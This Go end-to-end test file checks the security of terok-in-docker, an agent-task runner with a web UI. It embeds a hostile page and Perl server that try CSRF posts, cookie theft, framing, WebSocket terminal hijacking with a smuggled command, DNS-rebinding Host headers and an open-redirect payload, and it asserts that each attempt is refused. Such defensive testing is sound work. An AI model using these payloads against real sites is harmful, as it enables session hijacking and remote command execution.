package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
	"github.com/coder/websocket"

	"github.com/terok-ai/terok-in-docker/daemons/web/webapi"
)

// hostileServer is a web task's app that attacks terok from the user's
// browser: a small HTTP server (perl-base is in the task image) on the
// container's loopback that serves hostilePage, answers /config with the
// task's prompt (the test passes what the page needs there), prints each
// request's cookies (HDR lines) and the page's findings (REPORT lines) to
// the task's log.
const hostileServer = `mkdir -p /tmp/www
cat > /tmp/www/index.html <<'HTML'
` + hostilePage + `
HTML
cat > /tmp/srv.pl <<'PERL'
use IO::Socket::INET;
$| = 1;
my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 8080, Listen => 16, ReuseAddr => 1) or die "listen: $!";
print "serving on 8080\n";
while (my $c = $s->accept) {
  my $req = <$c>;
  next unless defined $req;
  my ($m, $p) = split / /, $req;
  my %h;
  while (my $l = <$c>) { $l =~ s/\r?\n$//; last if $l eq ''; my ($k, $v) = split /:\s*/, $l, 2; $h{lc $k} = $v; }
  print "HDR $m $p cookie=" . ($h{cookie} // '') . "\n";
  my $body = '';
  read($c, $body, $h{'content-length'}) if $h{'content-length'};
  my ($type, $out) = ('text/plain', 'ok');
  if ($p =~ m{^/report}) { print "REPORT $body\n"; }
  elsif ($p =~ m{^/config}) { $out = $ENV{TEROK_PROMPT}; }
  elsif ($p eq '/' || $p =~ m{^/\?}) { open(my $f, '<', '/tmp/www/index.html'); local $/; $out = <$f>; $type = 'text/html'; }
  print $c "HTTP/1.0 200 OK\r\nContent-Type: $type\r\nContent-Length: " . length($out) . "\r\nConnection: close\r\n\r\n$out";
  close $c;
}
PERL
exec perl /tmp/srv.pl`

// hostilePage is what a hostile agent serves: with the user's browser
// (logged in to terok on another port of the same host) it tries to read
// terok's API and pages, the login URL, another task's UI; to create
// projects (no-cors, a guessed CSRF header, a text/plain form that posts
// JSON); to press panic; to open the events and terminal WebSockets; to
// read the session cookie; to frame terok; and, embedded, to navigate
// terok's tab. It reports what happened to its own server.
const hostilePage = `<!doctype html><title>hostile</title><body><h1>hello from the task ui</h1><script>
(async () => {
  const cfg = Object.fromEntries((await (await fetch('/config')).text()).trim().split(/\s+/).map((kv) => kv.split('=')));
  const T = 'http://' + location.hostname + ':' + cfg.api, W = 'ws://' + location.hostname + ':' + cfg.api;
  const r = {where: window.top === window ? 'top' : 'frame'};
  const read = async (name, url) => { try { const x = await fetch(url, {credentials: 'include'}); r[name] = 'READ ' + x.status + ' ' + (await x.text()).slice(0, 80); } catch (e) { r[name] = 'blocked'; } };
  await read('read_projects', T + '/api/v1/projects');
  await read('read_web_url', T + '/api/v1/web/url');
  await read('read_page', T + '/task/' + cfg.target);
  await read('read_other_task', 'http://' + location.hostname + ':' + cfg.other + '/');
  try { await fetch(T + '/api/v1/projects', {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({name: 'pwned-nocors-' + r.where})}); r.post_nocors = 'sent'; } catch (e) { r.post_nocors = 'blocked'; }
  try { const x = await fetch(T + '/api/v1/projects', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Terok-CSRF': 'guessed'}, body: JSON.stringify({name: 'pwned-csrf-' + r.where})}); r.post_csrf = 'READ ' + x.status; } catch (e) { r.post_csrf = 'blocked'; }
  try { await fetch(T + '/api/v1/shield/panic', {method: 'POST', mode: 'no-cors', credentials: 'include'}); r.panic = 'sent'; } catch (e) { r.panic = 'blocked'; }
  const sink = document.createElement('iframe'); sink.name = 'sink'; sink.style.display = 'none'; document.body.append(sink);
  const f = document.createElement('form'); f.method = 'POST'; f.action = T + '/api/v1/projects'; f.enctype = 'text/plain'; f.target = 'sink';
  const i = document.createElement('input'); i.name = '{"name":"pwned-form-' + r.where + '","x":"'; i.value = '"}'; f.append(i); document.body.append(f); f.submit();
  const ws = (name, url) => new Promise((res) => {
    let s; try { s = new WebSocket(url); } catch (e) { r[name] = 'blocked'; return res(); }
    const t = setTimeout(() => { r[name] = 'timeout'; res(); }, 8000);
    s.onopen = () => { r[name] = 'opened'; clearTimeout(t); s.close(); res(); };
    s.onclose = () => { if (!r[name]) r[name] = 'refused'; clearTimeout(t); res(); };
  });
  await ws('ws_events', W + '/api/v1/events');
  await ws('ws_attach', W + '/api/v1/tasks/' + cfg.target + '/attach?cmd=' + encodeURIComponent('touch /tmp/pwned'));
  r.cookie = document.cookie;
  r.frame_terok = await new Promise((res) => {
    const e = document.createElement('iframe'); e.src = T + '/task/' + cfg.target;
    e.onload = () => { try { res('READ ' + e.contentDocument.body.innerText.slice(0, 60)); } catch (x) { res('blocked'); } };
    setTimeout(() => res('blocked (no load)'), 6000); document.body.append(e);
  });
  if (r.where === 'frame') { try { window.top.location.href = T + '/daemons'; r.top_nav = 'tried'; } catch (e) { r.top_nav = 'blocked'; } }
  await new Promise((res) => setTimeout(res, 1500));
  await fetch('/report', {method: 'POST', body: JSON.stringify(r)});
  document.title = 'hostile-done';
})();
</script></body>`

// report is what hostilePage found, from the task's log.
type report map[string]string

func reports(t *testing.T, tr *tree, id string) []report {
	t.Helper()
	out, _ := tr.terok(t, "task", "logs", id)
	var rs []report
	for _, l := range strings.Split(out, "\n") {
		if j, ok := strings.CutPrefix(l, "REPORT "); ok {
			var r report
			if err := json.Unmarshal([]byte(j), &r); err == nil {
				rs = append(rs, r)
			}
		}
	}
	return rs
}

func waitReport(t *testing.T, tr *tree, id, where string) report {
	t.Helper()
	var got report
	waitFor(t, "the hostile page's report ("+where+")", 90*time.Second, func() bool {
		for _, r := range reports(t, tr, id) {
			if r["where"] == where {
				got = r
				return true
			}
		}
		return false
	})
	return got
}

// TestHostileTaskPage runs a web task whose page attacks terok from the
// user's logged-in Chromium, opened from terok's task page both ways a
// user does (the link, in a new tab; Show it here, embedded), against the
// real tree: every attempt is refused, terok's cookies never reach the
// task's server, and nothing changed in terok.
func TestHostileTaskPage(t *testing.T) {
	b := newBrowser(t)
	tr := startTree(t)
	tr.waitRunning(t)
	importTaskImage(t, tr)
	t.Cleanup(func() { removeTasks(t, tr) })
	login := strings.TrimSpace(tr.mustTerok(t, "web", "url"))
	base := "http://" + tr.webAddr
	_, apiPort, _ := strings.Cut(tr.webAddr, ":")

	// A task to attack through the terminal, another web task to reach.
	tr.mustTerok(t, "project", "add", "target", "--cmd", "sleep 600")
	victim := strings.TrimSpace(tr.mustTerok(t, "task", "run", "target", "--mode", "interactive"))
	waitFor(t, "the target task running", 90*time.Second, func() bool { return tr.taskJSON(t, victim).State == webapi.StateRunning })
	tr.mustTerok(t, "project", "add", "evil", "--web-port", "8080", "--cmd", hostileServer)
	other := runWebTask(t, tr, "evil", "api=0 target=none other=0")
	prompt := fmt.Sprintf("api=%s target=%s other=%d", apiPort, victim, other.WebPort)
	evil := runWebTask(t, tr, "evil", prompt)
	targetCtr := tr.taskJSON(t, victim).Container
	if n := len(execIDs(t, tr, targetCtr)); n != 0 {
		t.Fatalf("the target has %d exec sessions before the attack", n)
	}

	// The user logs in and opens the task's page, then its UI by the link.
	b.open(t, login)
	b.open(t, base+"/task/"+evil.ID)
	b.waitJS(t, "the web view", `document.querySelector('#web-link')`, 60*time.Second)
	if href := evalAs[string](t, b, `document.querySelector('#web-link').getAttribute('href')`); href != fmt.Sprintf("http://127.0.0.1:%d/", evil.WebPort) {
		t.Fatalf("web link %q: want the task's own port", href)
	}
	ctx, cancel := context.WithTimeout(b.ctx, 90*time.Second)
	defer cancel()
	newTab := chromedp.WaitNewTarget(ctx, func(i *target.Info) bool { return i.Type == "page" })
	b.click(t, "#web-link")
	var tabID target.ID
	select {
	case tabID = <-newTab:
	case <-ctx.Done():
		t.Fatal("the link opened no tab")
	}
	tab, closeTab := chromedp.NewContext(b.ctx, chromedp.WithTargetID(tabID))
	defer closeTab()
	tctx, tcancel := context.WithTimeout(tab, 90*time.Second)
	defer tcancel()
	if _, err := chromedp.Run(tctx, chromedp.WaitReady("body")); err != nil {
		t.Fatal(err)
	}
	top := waitReport(t, tr, evil.ID, "top")
	tabURL, _ := chromedp.Run(tctx, chromedp.Evaluate[string](`location.href`))
	if tabURL != fmt.Sprintf("http://127.0.0.1:%d/", evil.WebPort) {
		t.Errorf("the tab is at %q: want the task's address without the ticket", tabURL)
	}
	closeTab()

	// Show it here: the same page, embedded in terok's task page.
	b.click(t, "#web-show")
	b.waitJS(t, "the sandboxed frame", `document.querySelector('#web-frame')`, 60*time.Second)
	sandbox := evalAs[string](t, b, `document.querySelector('#web-frame').getAttribute('sandbox')`)
	for _, never := range []string{"allow-top-navigation", "allow-popups-to-escape-sandbox"} {
		if strings.Contains(sandbox, never) {
			t.Errorf("the frame's sandbox %q holds %s", sandbox, never)
		}
	}
	frame := waitReport(t, tr, evil.ID, "frame")
	b.shot(t, "hostile-task-embedded")
	if u := b.url(t); u != base+"/task/"+evil.ID {
		t.Errorf("the embedded page moved terok's tab to %s", u)
	}

	for _, r := range []report{top, frame} {
		where := r["where"]
		for _, k := range []string{"read_projects", "read_web_url", "read_page", "read_other_task", "post_csrf"} {
			if r[k] != "blocked" {
				t.Errorf("%s: %s = %q, want blocked", where, k, r[k])
			}
		}
		for _, k := range []string{"ws_events", "ws_attach"} {
			if r[k] != "refused" {
				t.Errorf("%s: %s = %q, want refused", where, k, r[k])
			}
		}
		if strings.Contains(r["cookie"], "terok_") {
			t.Errorf("%s: the page read terok's cookie: %q", where, r["cookie"])
		}
		if !strings.HasPrefix(r["frame_terok"], "blocked") {
			t.Errorf("%s: framing terok's page: %q", where, r["frame_terok"])
		}
	}
	t.Logf("top: %v\nframe: %v", top, frame)

	// Nothing happened in terok.
	for _, p := range []string{"pwned-nocors-top", "pwned-csrf-top", "pwned-form-top", "pwned-nocors-frame", "pwned-csrf-frame", "pwned-form-frame"} {
		if _, code := tr.terok(t, "project", "show", p); code == 0 {
			t.Errorf("the task's page created project %s", p)
		}
	}
	if st := tr.mustTerok(t, "shield", "status", evil.ID, "--json"); !strings.Contains(st, `"mode": "up"`) {
		t.Errorf("the task's page pressed panic:\n%s", st)
	}
	if ids := execIDs(t, tr, targetCtr); len(ids) != 0 {
		t.Errorf("the task's page opened %d terminal(s) in another task", len(ids))
	}
	// terok's cookies never reached the task's server.
	logs, _ := tr.terok(t, "task", "logs", evil.ID)
	hdr := 0
	for _, l := range strings.Split(logs, "\n") {
		if strings.HasPrefix(l, "HDR ") {
			hdr++
			if strings.Contains(l, "terok_") {
				t.Errorf("a terok cookie reached the task's server: %s", l)
			}
		}
	}
	if hdr < 4 {
		t.Fatalf("the task's server saw %d requests: the test did not run\n%s", hdr, logs)
	}
	// The session cookie was there all along (the browser sent it to
	// terok): the refusals above are terok's, not a missing login.
	if sessionOf(t, b, base) == "" {
		t.Fatal("no session")
	}
}

// runWebTask starts a web task of project with prompt and waits until its
// app serves.
func runWebTask(t *testing.T, tr *tree, project, prompt string) webapi.Task {
	t.Helper()
	out := tr.mustTerok(t, "task", "run", project, "--mode", "web", "--prompt", prompt, "--json")
	var task webapi.Task
	if err := json.Unmarshal([]byte(out), &task); err != nil {
		t.Fatalf("run --json: %v\n%s", err, out)
	}
	waitFor(t, "the web task serving", 90*time.Second, func() bool {
		l, _ := tr.terok(t, "task", "logs", task.ID)
		return strings.Contains(l, "serving on 8080")
	})
	return task
}

// TestHostileRequests sends what a hostile page cannot send from a
// browser but another program might, against the real tree: a rebinding
// Host name on terok's listener, a terminal asked for from a task UI's
// origin (no exec session may appear in Podman), the login URL and a
// daemon log holding the gate's admin token with a browser session, and a
// TAB in the login's next.
func TestHostileRequests(t *testing.T) {
	// The gate makes its admin token itself (and prints it where it logs
	// it at all).
	tr := startTree(t, "TEROK_GATE_ADMIN_TOKEN=")
	tr.waitRunning(t)
	importTaskImage(t, tr)
	t.Cleanup(func() { removeTasks(t, tr) })
	login := strings.TrimSpace(tr.mustTerok(t, "web", "url"))
	token := login[strings.Index(login, "?token=")+len("?token="):]
	base := "http://" + tr.webAddr
	nc := &http.Client{Timeout: 20 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	do := func(method, u string, mod func(*http.Request)) *http.Response {
		req, _ := http.NewRequest(method, u, nil)
		if mod != nil {
			mod(req)
		}
		resp, err := nc.Do(req)
		if err != nil {
			t.Fatalf("%s %s: %v", method, u, err)
		}
		resp.Body.Close()
		return resp
	}

	t.Run("rebinding host", func(t *testing.T) {
		for _, p := range []string{"/", "/login", "/api/v1/health", "/static/app.js"} {
			resp := do("GET", base+p, func(r *http.Request) { r.Host = "rebound.evil.example:" + strings.Split(tr.webAddr, ":")[1] })
			if resp.StatusCode != 403 {
				t.Errorf("%s with a rebinding Host: %d, want 403", p, resp.StatusCode)
			}
		}
		if resp := do("GET", base+"/login", func(r *http.Request) { r.Host = "localhost:" + strings.Split(tr.webAddr, ":")[1] }); resp.StatusCode != 200 {
			t.Errorf("localhost: %d", resp.StatusCode)
		}
	})

	t.Run("attach from a task's origin", func(t *testing.T) {
		tr.mustTerok(t, "project", "add", "shell", "--cmd", "sleep 600")
		id := strings.TrimSpace(tr.mustTerok(t, "task", "run", "shell", "--mode", "interactive"))
		waitFor(t, "the task running", 90*time.Second, func() bool { return tr.taskJSON(t, id).State == webapi.StateRunning })
		ctr := tr.taskJSON(t, id).Container
		if n := len(execIDs(t, tr, ctr)); n != 0 {
			t.Fatalf("%d exec sessions before", n)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		for _, origin := range []string{"http://127.0.0.1:7860", "http://evil.example", "null"} {
			_, resp, err := websocket.Dial(ctx, "ws://"+tr.webAddr+"/api/v1/tasks/"+id+"/attach?cmd=true", &websocket.DialOptions{
				HTTPHeader: http.Header{"Authorization": {"Bearer " + token}, "Origin": {origin}}})
			if err == nil || resp == nil || resp.StatusCode != http.StatusForbidden {
				t.Fatalf("attach with Origin %s: %v %v, want 403", origin, err, resp)
			}
		}
		if ids := execIDs(t, tr, ctr); len(ids) != 0 {
			t.Fatalf("a refused attach left %d exec session(s) in Podman", len(ids))
		}
		// The events WebSocket is refused the same way.
		_, resp, err := websocket.Dial(ctx, "ws://"+tr.webAddr+"/api/v1/events", &websocket.DialOptions{
			HTTPHeader: http.Header{"Authorization": {"Bearer " + token}, "Origin": {"http://127.0.0.1:7860"}}})
		if err == nil || resp == nil || resp.StatusCode != http.StatusForbidden {
			t.Fatalf("events from a task's origin: %v %v", err, resp)
		}
		tr.mustTerok(t, "task", "stop", id)
	})

	t.Run("login next, the login URL and logs", func(t *testing.T) {
		form := "token=" + token + "&next=" + "/%09/evil.example"
		req, _ := http.NewRequest("POST", base+"/login", strings.NewReader(form))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r2, err := nc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		r2.Body.Close()
		if r2.StatusCode != http.StatusSeeOther || r2.Header.Get("Location") != "/" {
			t.Fatalf("next with a TAB: %d to %q, want /", r2.StatusCode, r2.Header.Get("Location"))
		}
		var sess *http.Cookie
		for _, c := range r2.Cookies() {
			if strings.HasPrefix(c.Name, "terok_session_") {
				sess = c
			}
		}
		if sess == nil {
			t.Fatal("no session cookie")
		}
		if resp := do("GET", base+"/api/v1/web/url", func(r *http.Request) { r.AddCookie(sess) }); resp.StatusCode != 403 {
			t.Fatalf("the login URL with a session cookie: %d, want 403", resp.StatusCode)
		}
		if resp := do("GET", base+"/api/v1/web/url", func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+token) }); resp.StatusCode != 200 {
			t.Fatalf("the login URL with the token: %d", resp.StatusCode)
		}
		// A daemon's log over TCP holds no token: the gate's admin token,
		// the access token, a task token.
		admin, err := os.ReadFile(filepath.Join(tr.dev, "state", "gate", "admin-token"))
		if err != nil || len(strings.TrimSpace(string(admin))) < 16 {
			t.Fatalf("the gate's admin token: %v %q", err, admin)
		}
		raw := tr.mustTerok(t, "daemons", "logs", "terok-gate") // web.sock: unredacted
		t.Logf("the gate's own log holds its admin token: %v", strings.Contains(raw, strings.TrimSpace(string(admin))))
		for _, name := range []string{"terok-gate", "terok-web"} {
			req, _ := http.NewRequest("GET", base+"/api/v1/daemons/"+name+"/log?bytes=1000000", nil)
			req.AddCookie(sess)
			r3, err := nc.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(r3.Body)
			r3.Body.Close()
			if r3.StatusCode != 200 || len(b) == 0 {
				t.Fatalf("%s's log with a session: %d %q", name, r3.StatusCode, b)
			}
			for _, secret := range []string{strings.TrimSpace(string(admin)), token, "terok-g-"} {
				if strings.Contains(string(b), secret) {
					t.Errorf("%s's log, read with a session cookie, holds a secret:\n%s", name, b)
				}
			}
		}
		// No answer of terok carries CORS headers, not even a preflight's.
		resp := do("OPTIONS", base+"/api/v1/projects", func(r *http.Request) {
			r.Header.Set("Origin", "http://127.0.0.1:7860")
			r.Header.Set("Access-Control-Request-Method", "POST")
			r.Header.Set("Access-Control-Request-Headers", "x-terok-csrf")
			r.AddCookie(sess)
		})
		for k := range resp.Header {
			if strings.HasPrefix(strings.ToLower(k), "access-control-") {
				t.Errorf("a preflight got %s", k)
			}
		}
	})

	t.Run("no secret in terok-web's log", func(t *testing.T) {
		logs := tr.mustTerok(t, "daemons", "logs", "terok-web", "--bytes", "16777216") // the whole log, not its tail
		if strings.Contains(logs, token) || strings.Contains(logs, "terok-g-") {
			t.Fatalf("terok-web's log holds a token:\n%s", logs)
		}
	})
}
